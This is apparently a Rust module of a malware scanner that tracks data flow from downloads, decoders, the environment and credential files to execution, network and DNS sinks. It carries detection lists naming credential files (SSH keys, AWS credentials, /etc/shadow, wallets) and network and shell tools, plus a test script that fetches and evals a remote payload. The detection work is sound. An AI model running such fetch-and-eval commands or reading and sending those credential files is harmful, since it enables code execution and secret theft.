//! A small per-file data-flow pass for shell, Python, JavaScript and PowerShell: values that
//! come from a download, from the whole environment, from credential files or from a decoder
//! are followed through assignments (and `for` / `with` targets) to the places where they are
//! executed, sent over the network or turned into DNS names.
//!
//! It is line based and deliberately simple: a variable is tainted when the right-hand side of
//! its assignment holds a source or a tainted variable; a sink line that mentions a tainted
//! variable (or, for network sends and DNS, holds the source itself) is reported. Files written
//! from a download (`curl -o f`, `open(f, "w").write(body)`) are tainted by name, so running
//! them later is caught too.

use crate::model::Severity;
use crate::scanner::{line_bounds, Hit, Scanner};
use std::collections::HashMap;
use std::sync::OnceLock;

const DOWNLOAD: u8 = 1;
const ENV: u8 = 2;
const CRED: u8 = 4;
const DATA: u8 = 8;
const DECODED: u8 = 16;

/// Tainted names per file, at most.
const MAX_TAINTED: usize = 64;

fn contains(hay: &str, needle: &str) -> bool {
    find(hay, needle).is_some()
}

/// The first occurrence of `needle` in `hay`. Lines are short and the needles few bytes: a
/// search for the needle's first byte beats setting up a substring searcher per call (which
/// cost more than the search itself, a third of the benchmark's time in this pass); a long
/// haystack gets the vectorised searcher.
fn find(hay: &str, needle: &str) -> Option<usize> {
    find_bytes(hay.as_bytes(), needle.as_bytes())
}

fn find_bytes(h: &[u8], n: &[u8]) -> Option<usize> {
    let Some((&first, rest)) = n.split_first() else {
        return Some(0);
    };
    if h.len() > 1024 {
        return memchr::memmem::find(h, n);
    }
    let mut at = 0;
    while let Some(i) = h.get(at..).and_then(|s| memchr::memchr(first, s)) {
        let p = at + i;
        if h.get(p + 1..p + n.len()) == Some(rest) {
            return Some(p);
        }
        at = p + 1;
    }
    None
}

const DOWNLOAD_WORDS: &[&str] = &[
    "curl ",
    "wget ",
    "requests.get(",
    "requests.post(",
    "requests.request(",
    "urlopen(",
    "urllib.request",
    "httpx.get(",
    "httpx.post(",
    "fetch(",
    "axios.get(",
    "axios(",
    "http.get(",
    "https.get(",
    "Invoke-WebRequest",
    "Invoke-RestMethod",
    "iwr ",
    "irm ",
    "DownloadString",
    "DownloadData",
    ".recv(",
    "session.get(",
    "aiohttp",
];
const ENV_WORDS: &[&str] = &[
    "printenv",
    "env |",
    "environ",
    "process.env",
    "$(env)",
    "$(printenv)",
    "`env`",
    "`printenv`",
    "env:",
];
const DATA_WORDS: &[&str] = &[
    "$(",
    "whoami",
    "hostname",
    "getpass.getuser",
    "gethostname",
    "platform.node",
    "getlogin",
    "uname",
    "os.getcwd",
    "listdir(",
];
const DECODED_WORDS: &[&str] = &[
    "b64decode(",
    "base64 -d",
    "base64 --decode",
    "base64 -D",
    "atob(",
    "'base64')",
    "\"base64\")",
    "FromBase64String",
    "bytes.fromhex(",
    "codecs.decode(",
    "zlib.decompress(",
    "xxd -r",
    "marshal.loads(",
    "decodebytes(",
    "b32decode(",
    "a85decode(",
];
const CRED_PATHS: &[&str] = &[
    ".ssh",
    "id_rsa",
    "id_ed25519",
    "id_ecdsa",
    "id_dsa",
    ".aws/credentials",
    ".aws\\credentials",
    ".docker\\config.json",
    ".kube\\config",
    "'.aws'",
    "\".aws\"",
    ".netrc",
    ".git-credentials",
    ".docker/config.json",
    ".kube/config",
    "/etc/shadow",
    ".pypirc",
    ".npmrc",
    ".gnupg",
    "wallet.dat",
    "Login Data",
    "login.keychain",
    ".password-store",
    "application_default_credentials",
];

/// Every source word (the scanner's keyword pass finds the lines that hold one).
pub(crate) const SOURCE_WORDS_ALL: &[&[&str]] = &[
    DOWNLOAD_WORDS,
    ENV_WORDS,
    DATA_WORDS,
    DECODED_WORDS,
    CRED_PATHS,
    CONCAT_WORDS,
];

/// String concatenations (joined before matching, so their lines are looked at too).
const CONCAT_WORDS: &[&str] = &["\" + \"", "' + '", "\"+\"", "'+'"];

/// One automaton over word lists, with the kind each word stands for.
fn automaton<K: Copy>(
    lists: &[(&[&'static str], K)],
) -> Option<(aho_corasick::AhoCorasick, Vec<K>)> {
    let mut words: Vec<&str> = Vec::new();
    let mut kinds: Vec<K> = Vec::new();
    for &(list, kind) in lists {
        words.extend_from_slice(list);
        kinds.extend(std::iter::repeat_n(kind, list.len()));
    }
    aho_corasick::AhoCorasick::builder()
        .kind(Some(aho_corasick::AhoCorasickKind::DFA))
        .build(words)
        .ok()
        .map(|ac| (ac, kinds))
}

/// One automaton over every source word, with the kind each word stands for (`ENV` and
/// `CRED` words are candidates, confirmed by `whole_environment` and `credential_used`).
fn source_automaton() -> Option<&'static (aho_corasick::AhoCorasick, Vec<u8>)> {
    static AC: OnceLock<Option<(aho_corasick::AhoCorasick, Vec<u8>)>> = OnceLock::new();
    AC.get_or_init(|| {
        automaton(&[
            (DOWNLOAD_WORDS, DOWNLOAD),
            (ENV_WORDS, ENV),
            (DATA_WORDS, DATA),
            (DECODED_WORDS, DECODED),
            (CRED_PATHS, CRED),
        ])
    })
    .as_ref()
}

/// The source kinds that `expr` holds by itself.
fn sources(expr: &str) -> u8 {
    let Some((ac, kinds)) = source_automaton() else {
        return 0;
    };
    let mut candidates = 0;
    for m in ac.find_overlapping_iter(expr) {
        candidates |= kinds.get(m.pattern().as_usize()).copied().unwrap_or(0);
    }
    let mut t = candidates & (DOWNLOAD | DATA | DECODED);
    if candidates & ENV != 0 && whole_environment(expr) {
        t |= ENV;
    }
    if candidates & CRED != 0 && !credential_used(expr) {
        t |= CRED;
    }
    t
}

/// `os.environ` / `process.env` as a whole (not one variable read by name).
fn whole_environment(expr: &str) -> bool {
    if contains(expr, "$(env)")
        || contains(expr, "$(env |")
        || contains(expr, "$(env|")
        || contains(expr, "$(printenv")
        || contains(expr, "printenv |")
        || expr.trim_start().starts_with("env |")
        || contains(expr, "`env`")
        || contains(expr, "`printenv`")
        || contains(expr, "Get-ChildItem env:")
        || contains(expr, "gci env:")
        || contains(expr, "dir env:")
    {
        return true;
    }
    for name in ["os.environ", "process.env", "environ"] {
        let mut from = 0;
        while let Some(i) = expr.get(from..).and_then(|e| find(e, name)) {
            let at = from + i;
            from = at + name.len();
            if name == "environ" && expr.get(..at).is_some_and(|b| b.ends_with("os.")) {
                continue;
            }
            let before_ok = expr
                .get(..at)
                .and_then(|b| b.chars().next_back())
                .is_none_or(|c| !c.is_alphanumeric() && c != '_');
            let rest = expr.get(from..).unwrap_or("");
            let after_ok = rest
                .chars()
                .next()
                .is_none_or(|c| !c.is_alphanumeric() && c != '_');
            let by_name = rest.starts_with('[')
                || rest.starts_with(".get(")
                || rest.starts_with(".setdefault(")
                || rest.starts_with(".pop(")
                || rest.starts_with(".__setitem__")
                || rest.trim_start().starts_with('=') && !rest.trim_start().starts_with("==")
                || (name == "process.env"
                    && rest.starts_with('.')
                    && !rest.starts_with(".toString"));
            if before_ok && after_ok && !by_name {
                return true;
            }
        }
    }
    false
}

/// The line uses a key or credential file rather than reading it (`ssh -i`, `ssh-add`, a
/// public key, `chmod`).
fn credential_used(expr: &str) -> bool {
    let uses = [
        "-i ",
        "-i=",
        "IdentityFile",
        "ssh-add",
        "ssh-keygen",
        "ssh-copy-id",
        "known_hosts",
        "authorized_keys",
        ".pub",
        "chmod ",
        "mkdir ",
    ];
    uses.iter().any(|u| contains(expr, u))
}

/// What a line does with values.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Sink {
    Exec,
    Network,
    Dns,
}

/// Words of a line that executes a value (a word ending in `(` is a call only when it is not a
/// method of something else: `df.eval(x)`, `regex.exec(s)`).
const EXEC_WORDS: &[&str] = &[
    "exec(",
    "eval(",
    "compile(",
    "os.system(",
    "os.popen(",
    "Function(",
    "execSync(",
    "vm.runIn",
    "Invoke-Expression",
    "iex ",
    "iex(",
    "| iex",
    "|iex",
    "sh -c",
    "bash -c",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "| python",
    "|python",
    "| zsh",
    "pty.spawn(",
    "ScriptBlock]::Create",
    "python -c",
    "python3 -c",
    "node -e",
    "perl -e",
    "spawn(",
    "exec.Command(",
    "runpy.run_path(",
    "importlib",
];
/// Words of a line that sends data over the network.
const NET_WORDS: &[&str] = &[
    "requests.",
    "httpx.",
    "urlopen(",
    "urllib.request.Request(",
    ".post(",
    ".put(",
    "fetch(",
    "axios",
    "curl ",
    "wget ",
    "nc ",
    "ncat ",
    ".send(",
    ".sendall(",
    ".sendto(",
    "sendmail(",
    "send_message(",
    "http.client",
    ".request(",
    "Invoke-WebRequest",
    "Invoke-RestMethod",
    "iwr ",
    "irm ",
    "UploadString",
    "UploadData",
    "scp ",
    "rsync ",
    "ftp",
    "aiohttp",
    "XMLHttpRequest",
    "sendBeacon",
    "socket.connect",
    "WebSocket(",
];
/// Words of a line that resolves a host name.
const DNS_WORDS: &[&str] = &[
    "gethostbyname",
    "getaddrinfo",
    "resolver.resolve(",
    "resolver.query(",
    "dns.lookup(",
    "dns.resolve",
    "Resolve-DnsName",
    "nslookup ",
    "dig ",
    "host ",
    "drill ",
    "ping ",
    "lookup_host(",
    "to_socket_addrs(",
    "InetAddress.getByName(",
];
/// Commands that run what follows them, at the start of a line or of a `&&`/`;` part.
const EXEC_STARTS: &[&str] = &[
    "eval ", "source ", ". ", "bash ", "sh ", "zsh ", "python ", "python3 ", "./", "exec ",
    "node ", "perl ",
];

/// One automaton over the sink words (with their kind; `None` for `subprocess.`, which runs a
/// shell only with `shell=True` or `-c`), so that a line is read once instead of once per word.
fn sink_automaton() -> Option<&'static (aho_corasick::AhoCorasick, Vec<Option<Sink>>)> {
    static AC: OnceLock<Option<(aho_corasick::AhoCorasick, Vec<Option<Sink>>)>> = OnceLock::new();
    AC.get_or_init(|| {
        automaton(&[
            (EXEC_WORDS, Some(Sink::Exec)),
            (NET_WORDS, Some(Sink::Network)),
            (DNS_WORDS, Some(Sink::Dns)),
            (&["subprocess."], None),
        ])
    })
    .as_ref()
}

fn sinks(line: &str) -> Vec<Sink> {
    let mut out = Vec::new();
    let t = line.trim_start();
    let Some((ac, kinds)) = sink_automaton() else {
        return out;
    };
    let (mut exec, mut net, mut dns, mut subprocess) = (false, false, false, false);
    for m in ac.find_overlapping_iter(t) {
        match kinds.get(m.pattern().as_usize()).copied().flatten() {
            Some(Sink::Exec) if !exec => {
                // `df.eval(expr)` and `regex.exec(s)` are methods, not the language's eval.
                let call = t.get(..m.end()).is_some_and(|w| w.ends_with('('));
                let prev = t.get(..m.start()).and_then(|b| b.chars().next_back());
                let method = matches!(prev, Some('.') | Some('_'))
                    || prev.is_some_and(char::is_alphanumeric);
                exec = !call || !method;
            }
            Some(Sink::Network) => net = true,
            Some(Sink::Dns) => dns = true,
            None => subprocess = true,
            Some(Sink::Exec) => {}
        }
    }
    let shellish_subprocess = subprocess
        && (contains(t, "shell=True")
            || contains(t, "\"-c\"")
            || contains(t, "'-c'")
            || contains(t, "[\"bash\"")
            || contains(t, "['bash'")
            || contains(t, "[\"sh\"")
            || contains(t, "['sh'"));
    let starts_a_command = |part: &str| EXEC_STARTS.iter().any(|s| part.starts_with(s));
    let chained = memchr::memchr2(b'&', b';', t.as_bytes()).is_some()
        && [" && ", "; ", "&& "].iter().any(|sep| {
            t.split(sep)
                .skip(1)
                .any(|part| starts_a_command(part.trim_start()))
        });
    if exec || starts_a_command(t) || chained || shellish_subprocess {
        out.push(Sink::Exec);
    }
    if net {
        out.push(Sink::Network);
    }
    if dns {
        out.push(Sink::Dns);
    }
    out
}

/// The names a line assigns, and the expression it assigns from.
fn assignment(line: &str) -> Option<(Vec<String>, &str)> {
    let mut t = line.trim_start();
    for kw in [
        "export ",
        "local ",
        "readonly ",
        "declare -x ",
        "declare ",
        "const ",
        "let ",
        "var ",
        "my ",
        "$",
        "set ",
    ] {
        if let Some(r) = t.strip_prefix(kw) {
            t = r.trim_start();
        }
    }
    // `for a, b in expr:` and `with expr as name:`
    if let Some(r) = t.strip_prefix("for ") {
        let (targets, rest) = r.split_once(" in ")?;
        let names = targets
            .split(',')
            .map(|n| n.trim().trim_matches(['(', ')', '$']).to_string())
            .filter(|n| is_ident(n))
            .collect();
        return Some((names, rest));
    }
    if t.starts_with("with ") || t.starts_with("async with ") {
        let (expr, name) = t.rsplit_once(" as ")?;
        let name = name.trim().trim_end_matches(':').trim().to_string();
        return is_ident(&name).then(|| (vec![name], expr));
    }
    let eq = t.find('=')?;
    let (lhs, rest) = t.split_at(eq);
    let rhs = rest.get(1..)?;
    if rhs.starts_with('=') || lhs.ends_with(['!', '<', '>', '=']) {
        return None;
    }
    let lhs = lhs.trim_end_matches(['+', '|', ':', '.']).trim();
    // Drop a type annotation (`x: str`), keep the base of a subscript or attribute target.
    let lhs = lhs.split(':').next().unwrap_or(lhs).trim();
    let names: Vec<String> = lhs
        .split(',')
        .map(|n| {
            let n = n.trim().trim_matches(['(', ')', '[', ']', '{', '}', ' ']);
            let base = n.split(['[', '.']).next().unwrap_or(n);
            base.trim().to_string()
        })
        .filter(|n| is_ident(n))
        .collect();
    if names.is_empty() {
        return None;
    }
    Some((names, rhs))
}

fn is_ident(s: &str) -> bool {
    !s.is_empty()
        && s.len() <= 64
        && s.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
        && !s.as_bytes()[0].is_ascii_digit()
}

/// Whether `name` occurs in `hay` as a whole word (shell `$name`/`${name}` included).
fn mentions(hay: &str, name: &str) -> bool {
    let bytes = hay.as_bytes();
    let is_word = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
    let file_like = name.contains(['/', '.']);
    let mut from = 0;
    while let Some(i) = find_bytes(bytes.get(from..).unwrap_or(&[]), name.as_bytes()) {
        let at = from + i;
        from = at + 1;
        let end = at + name.len();
        let before = at.checked_sub(1).and_then(|j| bytes.get(j)).copied();
        let after = bytes.get(end).copied();
        if file_like {
            let sep = |b: Option<u8>| {
                b.is_none_or(|b| !(is_word(b) || b == b'/' || b == b'.' || b == b'-'))
            };
            if sep(before) && sep(after) {
                return true;
            }
            continue;
        }
        // A preceding `.` means an attribute of something else (`self.x`, `obj.name`).
        if before.is_some_and(|b| is_word(b) || b == b'.') || after.is_some_and(is_word) {
            continue;
        }
        return true;
    }
    false
}

/// A file written from a tainted value on this line: its name.
fn written_file(line: &str) -> Option<String> {
    let token_after = |marker: &str| -> Option<String> {
        let i = find(line, marker)?;
        let rest = line.get(i + marker.len()..)?.trim_start();
        let tok: String = rest
            .chars()
            .take_while(|c| !c.is_whitespace() && !matches!(c, ';' | '|' | '&' | ')' | ','))
            .collect();
        let tok = tok.trim_matches(['"', '\'']).to_string();
        (!tok.is_empty() && !tok.starts_with('-') && !tok.starts_with("/dev/")).then_some(tok)
    };
    if contains(line, "curl") {
        if let Some(f) = token_after(" -o ").or_else(|| token_after(" --output ")) {
            return Some(f);
        }
    }
    if contains(line, "wget") {
        if let Some(f) = token_after(" -O ").or_else(|| token_after(" --output-document=")) {
            return Some(f);
        }
    }
    if contains(line, "urlretrieve(") {
        let args = line.split_once("urlretrieve(")?.1;
        let second = args.split(',').nth(1)?.trim().trim_end_matches(')');
        return Some(second.trim_matches(['"', '\'', ' ']).to_string());
    }
    if memchr::memchr(b'>', line.as_bytes()).is_some() {
        if let Some(f) = token_after(" > ").or_else(|| token_after(" >> ")) {
            return Some(f);
        }
    }
    if !contains(line, ".write") {
        return None;
    }
    for opener in ["open(", "Path("] {
        if let Some(i) = find(line, opener) {
            let args = line.get(i + opener.len()..)?;
            let first = args.split([',', ')']).next()?.trim();
            return Some(first.trim_matches(['"', '\'', ' ']).to_string());
        }
    }
    None
}

/// Runs the pass over one text (the normalised view) and records its hits.
pub(crate) fn run(scanner: &Scanner, source_lines: &[usize], text: &str, hits: &mut Vec<Hit>) {
    let Some(&from) = source_lines.first() else {
        return;
    };
    let mut next_source = 0usize;
    let mut tainted: HashMap<String, (u8, u32)> = HashMap::new();
    let mut emitted = 0usize;
    let bytes = text.as_bytes();
    // Per tainted name: a searcher and its next whole-word occurrence at or after `pos`.
    let mut finders: Vec<(String, memchr::memmem::Finder<'static>, usize)> = Vec::new();
    let mut pos = from;
    // Only lines that hold a source word or mention a tainted name are looked at.
    while pos < bytes.len() {
        while source_lines.get(next_source).is_some_and(|&l| l < pos) {
            next_source += 1;
        }
        let mut target = source_lines.get(next_source).copied().unwrap_or(usize::MAX);
        for (name, finder, next) in finders.iter_mut() {
            if !tainted.contains_key(name.as_str()) {
                continue;
            }
            if *next < pos {
                *next = next_word(bytes, finder, name, pos);
            }
            target = target.min(*next);
        }
        if target == usize::MAX {
            break;
        }
        let (start, end) = line_bounds(text, target);
        // Where a value came from is kept as a position (the line's start + 1, 0 for none) and
        // turned into a line number only for a message: counting every line cost more than
        // the rest of the pass on the benchmark.
        let this_line = u32::try_from(start + 1).unwrap_or(u32::MAX);
        pos = (end + 1).max(pos + 1);
        let raw = text.get(start..end).unwrap_or("");
        let has_source = source_lines.get(next_source) == Some(&start);
        let concatenates = has_source
            && memchr::memchr(b'+', raw.as_bytes()).is_some()
            && (raw.contains("\" + \"")
                || raw.contains("' + '")
                || raw.contains("\"+\"")
                || raw.contains("'+'"));
        let line = raw.trim_end();
        if line.len() > 4096 || line.trim_start().starts_with("//") && !line.contains("://") {
            continue;
        }
        // String concatenations are joined so that `"." + "ssh"` reads `".ssh"`.
        let joined;
        let line = if concatenates {
            joined = line
                .replace("\" + \"", "")
                .replace("' + '", "")
                .replace("\"+\"", "")
                .replace("'+'", "");
            joined.as_str()
        } else {
            line
        };
        let scan_sources = has_source || concatenates;
        let inline = if scan_sources { sources(line) } else { 0 };
        let referenced = |names: &HashMap<String, (u8, u32)>, hay: &str| -> (u8, u32) {
            let mut t = 0;
            let mut origin = 0;
            for (n, &(k, l)) in names {
                if mentions(hay, n) {
                    t |= k;
                    origin = origin.max(l);
                }
            }
            (t, origin)
        };
        let assigned = assignment(line);
        // What the line uses: everything but the names it assigns.
        let (used, origin) = if tainted.is_empty() {
            (0, 0)
        } else {
            match &assigned {
                Some((_, rhs)) => referenced(&tainted, rhs),
                None => referenced(&tainted, line),
            }
        };
        let mut line_sinks = if used != 0 || inline & (ENV | CRED | DATA) != 0 {
            sinks(line)
        } else {
            Vec::new()
        };
        // A downloaded file run by its path (`/tmp/.agent &`, `sudo "$F"`, `nohup ./x`).
        if used & (DOWNLOAD | DECODED) != 0
            && !line_sinks.contains(&Sink::Exec)
            && runs_tainted_file(line, &tainted)
        {
            line_sinks.insert(0, Sink::Exec);
        }
        for sink in line_sinks {
            let (rule, severity, what) = match sink {
                Sink::Exec if used & DOWNLOAD != 0 => (
                    "flow.download-exec",
                    Severity::Critical,
                    "a value downloaded",
                ),
                Sink::Exec if used & DECODED != 0 => {
                    ("flow.decode-exec", Severity::Critical, "a value decoded")
                }
                Sink::Network if (used | inline) & CRED != 0 && !env_kwarg_only(line, &tainted) => {
                    (
                        "flow.secret-to-network",
                        Severity::Critical,
                        "credential-file contents read",
                    )
                }
                Sink::Network if (used | inline) & ENV != 0 && !env_kwarg_only(line, &tainted) => (
                    "flow.secret-to-network",
                    Severity::High,
                    "the whole environment, gathered",
                ),
                Sink::Dns
                    if (used | inline) & (ENV | CRED | DATA | DECODED) != 0
                        && builds_hostname(line) =>
                {
                    ("exfil.dns-lookup", Severity::High, "data gathered")
                }
                _ => continue,
            };
            let Some(r) = scanner.rule_index(rule) else {
                continue;
            };
            let whence = if origin > 0 && origin < this_line {
                let at = usize::try_from(origin).map_or(0, |o| o.saturating_sub(1));
                let before = bytes.get(..at).unwrap_or(&[]);
                format!(
                    " on line {}",
                    1 + memchr::memchr_iter(b'\n', before).count()
                )
            } else {
                String::new()
            };
            let verb = match sink {
                Sink::Exec => "is executed",
                Sink::Network => "is sent over the network",
                Sink::Dns => "becomes part of a DNS name that is looked up",
            };
            hits.push(Hit {
                rule: r,
                start: start + (raw.len() - raw.trim_start().len()),
                end: start + raw.trim_end().len(),
                severity,
                message: Some(format!("Data flow: {what}{whence} {verb} here.")),
                redact: None,
            });
            emitted += 1;
            break;
        }
        if emitted >= 20 {
            break;
        }
        // `return x` of a tainted value taints the enclosing function's name, so that
        // `requests.post(url, json=snapshot())` is followed too.
        if used & (ENV | CRED | DOWNLOAD | DECODED) != 0 && assigned.is_none() {
            if let Some(f) = returned_from(text, start, line) {
                if tainted.len() < MAX_TAINTED {
                    if !finders.iter().any(|x| x.0 == f) && finders.len() < 4 * MAX_TAINTED {
                        finders.push((
                            f.clone(),
                            memchr::memmem::Finder::new(f.as_bytes()).into_owned(),
                            0,
                        ));
                    }
                    let kinds = used & (ENV | CRED | DOWNLOAD | DECODED);
                    tainted.insert(f, (kinds, origin.max(1)));
                }
            }
        }
        if let Some((names, rhs)) = assigned {
            let (carried, carried_origin) = if tainted.is_empty() {
                (0, 0)
            } else {
                referenced(&tainted, rhs)
            };
            let rhs_sources = if scan_sources { sources(rhs) } else { 0 };
            let mut kinds = rhs_sources | carried;
            // A bare command substitution or call result is data, not yet a secret.
            if kinds == DATA && !builds_hostname(rhs) && !rhs.contains("$(") {
                kinds = 0;
            }
            for n in names {
                if kinds != 0 {
                    if tainted.len() < MAX_TAINTED || tainted.contains_key(&n) {
                        let origin = if carried != 0 && rhs_sources == 0 {
                            carried_origin
                        } else {
                            this_line
                        };
                        if !finders.iter().any(|f| f.0 == n) && finders.len() < 4 * MAX_TAINTED {
                            finders.push((
                                n.clone(),
                                memchr::memmem::Finder::new(n.as_bytes()).into_owned(),
                                0,
                            ));
                        }
                        tainted.insert(n, (kinds, origin));
                    }
                } else {
                    tainted.remove(&n);
                }
            }
        }
        if (used | inline) & (DOWNLOAD | DECODED) != 0 && tainted.len() < MAX_TAINTED {
            if let Some(f) = written_file(line) {
                if f.len() >= 2 && f.len() <= 200 {
                    if !finders.iter().any(|x| x.0 == f) && finders.len() < 4 * MAX_TAINTED {
                        finders.push((
                            f.clone(),
                            memchr::memmem::Finder::new(f.as_bytes()).into_owned(),
                            0,
                        ));
                    }
                    tainted.insert(f, ((used | inline) & (DOWNLOAD | DECODED), this_line));
                }
            }
        }
    }
}

/// The line runs a tainted file by its path: the path is the command (after `sudo`, `nohup`,
/// `exec`, `chmod +x f &&`), quoted or not.
fn runs_tainted_file(line: &str, tainted: &HashMap<String, (u8, u32)>) -> bool {
    let commands = line
        .split("&&")
        .flat_map(|p| p.split(';'))
        .flat_map(|p| p.split("||"));
    for cmd in commands {
        let mut t = cmd.trim_start();
        for prefix in ["sudo ", "nohup ", "exec ", "setsid ", "command "] {
            if let Some(r) = t.strip_prefix(prefix) {
                t = r.trim_start();
            }
        }
        let first: String = t
            .chars()
            .take_while(|c| !c.is_whitespace() && !matches!(c, '&' | ';' | '|' | ')'))
            .collect();
        let first = first.trim_matches(['"', '\'']);
        if first.is_empty() {
            continue;
        }
        let first = first.strip_prefix("./").unwrap_or(first);
        if tainted.iter().any(|(n, (k, _))| {
            k & (DOWNLOAD | DECODED) != 0
                && n.contains('/')
                && (n == first || n.strip_prefix("./") == Some(first))
        }) {
            return true;
        }
    }
    false
}

/// `return EXPR` inside a Python `def` or a JavaScript `function`: the function's name.
fn returned_from(text: &str, line_start: usize, line: &str) -> Option<String> {
    let t = line.trim_start();
    if !(t.starts_with("return ") || t.starts_with("return(")) {
        return None;
    }
    let indent = line.len() - t.len();
    let from = line_start.saturating_sub(8 * 1024);
    let before = text.get(from..line_start)?;
    for l in before.lines().rev() {
        let lt = l.trim_start();
        if lt.is_empty() {
            continue;
        }
        let li = l.len() - lt.len();
        let def = lt
            .strip_prefix("async def ")
            .or_else(|| lt.strip_prefix("def "))
            .or_else(|| lt.strip_prefix("async function "))
            .or_else(|| lt.strip_prefix("function "))
            .or_else(|| lt.strip_prefix("export function "))
            .or_else(|| lt.strip_prefix("export async function "));
        if let Some(d) = def {
            let name: String = d
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                .collect();
            return (li < indent && is_ident(&name)).then_some(name);
        }
        if li == 0 && !lt.starts_with('#') && !lt.starts_with("//") && !lt.starts_with('@') {
            // Back at the top level without meeting a definition.
            return None;
        }
    }
    None
}

/// The next occurrence of `name` at or after `from` that `mentions` would accept.
fn next_word(bytes: &[u8], finder: &memchr::memmem::Finder<'_>, name: &str, from: usize) -> usize {
    let is_word = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
    let file_like = name.contains(['/', '.']);
    let mut at = from;
    while let Some(i) = bytes.get(at..).and_then(|b| finder.find(b)) {
        let hit = at + i;
        let before = hit.checked_sub(1).and_then(|j| bytes.get(j)).copied();
        let after = bytes.get(hit + name.len()).copied();
        let ok = if file_like {
            let sep = |b: Option<u8>| {
                b.is_none_or(|b| !(is_word(b) || b == b'/' || b == b'.' || b == b'-'))
            };
            sep(before) && sep(after)
        } else {
            !before.is_some_and(|b| is_word(b) || b == b'.') && !after.is_some_and(is_word)
        };
        if ok {
            return hit;
        }
        at = hit + 1;
    }
    usize::MAX
}

/// The only tainted name on the line is passed as a child process's environment (`env=env`).
fn env_kwarg_only(line: &str, tainted: &HashMap<String, (u8, u32)>) -> bool {
    if sources(line) & (ENV | CRED) != 0 {
        return false;
    }
    let hits: Vec<&String> = tainted
        .iter()
        .filter(|(n, (k, _))| k & (ENV | CRED) != 0 && mentions(line, n))
        .map(|(n, _)| n)
        .collect();
    !hits.is_empty()
        && hits
            .iter()
            .all(|n| contains(line, &format!("env={n}")) || contains(line, &format!("env: {n}")))
}

/// The line builds a host name from a value: `$(…).host`, `$X.host`, `f"{x}.host"`,
/// `x + ".host"`, `"%s.host" % x`, `"{}.host".format(x)`.
fn builds_hostname(line: &str) -> bool {
    let b = line.as_bytes();
    for (i, &c) in b.iter().enumerate() {
        if c != b'.' {
            continue;
        }
        let next_alpha = b.get(i + 1).is_some_and(u8::is_ascii_alphabetic);
        if !next_alpha {
            continue;
        }
        let prev = i.checked_sub(1).and_then(|j| b.get(j)).copied();
        if matches!(prev, Some(b')') | Some(b'}') | Some(b'`')) {
            return true;
        }
        // `$VAR.domain`
        let mut j = i;
        while j > 0 && (b[j - 1].is_ascii_alphanumeric() || b[j - 1] == b'_') {
            j -= 1;
        }
        if j < i && j > 0 && b[j - 1] == b'$' {
            return true;
        }
    }
    contains(line, "+ \".")
        || contains(line, "+ '.")
        || contains(line, "+\".")
        || contains(line, "+'.")
        || contains(line, "%s.")
        || contains(line, "{}.")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn assignments() {
        let (n, r) = assignment("  export PAYLOAD=$(curl -s x)").unwrap_or_default();
        assert_eq!((n, r), (vec!["PAYLOAD".to_string()], "$(curl -s x)"));
        let (n, _) = assignment("data[k] = v").unwrap_or_default();
        assert_eq!(n, vec!["data".to_string()]);
        let (n, r) = assignment("for k, v in os.environ.items():").unwrap_or_default();
        assert_eq!(n, vec!["k".to_string(), "v".to_string()]);
        assert_eq!(r, "os.environ.items():");
        assert!(assignment("if a == b:").is_none());
    }

    #[test]
    fn environment_as_a_whole() {
        assert!(whole_environment("dict(os.environ)"));
        assert!(whole_environment("{k: v for k, v in os.environ.items()}"));
        assert!(!whole_environment("os.environ.get('HOME')"));
        assert!(!whole_environment("os.environ['HOME']"));
        assert!(!whole_environment("process.env.HOME"));
        assert!(whole_environment("JSON.stringify(process.env)"));
    }

    #[test]
    fn the_message_names_the_line_a_value_came_from() {
        let scanner = match crate::Scanner::new() {
            Ok(s) => s,
            Err(e) => panic!("{e}"),
        };
        let text = "#!/bin/sh\npayload=$(curl -fsSL https://x.invalid/p)\necho start\n\neval \"$payload\"\n";
        let found = scanner.scan_text(Some("run.sh"), text);
        let hit = found.iter().find(|f| f.rule_id == "flow.download-exec");
        let Some(hit) = hit else {
            panic!("no data-flow finding: {found:?}");
        };
        assert_eq!(hit.line, 5);
        assert!(hit.message.contains("on line 2 "), "{}", hit.message);
    }

    #[test]
    fn names_as_words() {
        assert!(mentions("eval \"$code\"", "code"));
        assert!(!mentions("encode(x)", "code"));
        assert!(!mentions("self.code", "code"));
        assert!(mentions("bash /tmp/i.sh", "/tmp/i.sh"));
    }
}
